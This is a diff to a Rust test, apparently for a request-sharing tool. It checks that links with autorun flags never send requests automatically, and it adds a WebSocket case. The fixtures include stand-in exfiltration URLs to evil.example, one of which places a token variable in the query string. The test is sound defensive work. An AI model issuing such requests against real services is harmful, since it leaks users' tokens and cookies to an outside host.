@@ -74,7 +74,11 @@ fn a_variable_anywhere_means_the_request_uses_variables() {
 fn only_an_embed_autoruns_and_only_without_variables() {
     let plain = get("https://api.example/users");
     let spends = get("https://evil.example/?k={{token}}");
+    // A WebSocket handshake carries the reader's cookies for its host: never opened by a link.
+    let socket = get("wss://evil.example/socket");
     let table = [
+        ("embed=1&autorun=1", &socket, false, Some("press Connect")),
+        ("autorun=1", &socket, false, Some("never sends")),
         ("", &plain, false, None),
         ("autorun=1", &plain, false, Some("never sends")),
         ("autorun=1", &spends, false, Some("never sends")),
